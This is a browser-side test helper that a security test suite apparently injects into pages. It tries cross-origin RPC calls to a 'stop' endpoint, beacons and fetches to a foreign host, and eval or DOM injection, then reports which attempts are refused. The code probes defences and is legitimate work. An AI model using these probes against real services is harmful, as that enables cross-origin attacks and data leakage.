// Runs inside the pages of hostile.test.ts, which reads it as text: tries things and says what became of each.

const attempt = async (act) => {
  try {
    return String(await act());
  } catch {
    return "refused";
  }
};

/** Resolves when `target` opens or loads, rejects when it fails. */
const outcome = (target) =>
  new Promise((resolve, reject) => {
    target.onload = target.onopen = () => resolve("done");
    target.onerror = reject;
  });

const append = (tag, attributes) => {
  const element = Object.assign(document.createElement(tag), attributes);
  document.body.append(element);
  return outcome(element);
};

/** From a page of another origin, which somehow knows the key. */
globalThis.attackHost = async (origin, token) => {
  const body = '{"args":[]}';
  const headers = { authorization: `Bearer ${token}`, "content-type": "application/json" };
  navigator.sendBeacon(`${origin}/rpc/stop`, body);
  await attempt(() => fetch(`${origin}/rpc/stop`, { method: "POST", body, mode: "no-cors" }));
  return {
    get: await attempt(() => fetch(`${origin}/`)),
    post: await attempt(() => fetch(`${origin}/rpc/stop`, { method: "POST", body, headers })),
    events: await attempt(() => fetch(`${origin}/events`, { headers })),
    socket: await attempt(() => outcome(new WebSocket(origin.replace("http", "ws")))),
    image: await attempt(() => append("img", { src: `${origin}/` })),
    script: await attempt(() => append("script", { src: `${origin}/` })),
  };
};

globalThis.submitForm = (action) => {
  const form = Object.assign(document.createElement("form"), { method: "post", action, enctype: "text/plain" });
  document.body.append(form);
  form.submit();
};

/** From inside the window: text into nodes or code, and anything to `foreign`. */
globalThis.callHome = async (foreign) => {
  // What the debugger calls may evaluate text; what a timer calls is the page's own.
  await new Promise((resolve) => setTimeout(resolve));
  navigator.sendBeacon(`${foreign}/beacon`);
  return {
    innerHtml: await attempt(() => {
      document.body.innerHTML = "<img>";
    }),
    write: await attempt(() => document.write("<img>")),
    fragment: await attempt(() => document.createRange().createContextualFragment("<img>")),
    parser: await attempt(() => new DOMParser().parseFromString("<img>", "text/html")),
    // biome-ignore lint/security/noGlobalEval: this is what must not work
    evaluate: await attempt(() => globalThis.eval("1")),
    construct: await attempt(() => new Function("1")),
    scriptSource: await attempt(() => append("script", { src: "/index.html" })),
    fetch: await attempt(() => fetch(`${foreign}/fetch`, { mode: "no-cors" })),
    socket: await attempt(() => outcome(new WebSocket(`${foreign.replace("http", "ws")}/socket`))),
    stream: await attempt(() => outcome(new EventSource(`${foreign}/stream`))),
    worker: await attempt(() => new Worker(`${foreign}/worker`)),
    image: await attempt(() => append("img", { src: `${foreign}/image` })),
    frame: await attempt(() => append("iframe", { srcdoc: "<img>" })),
  };
};
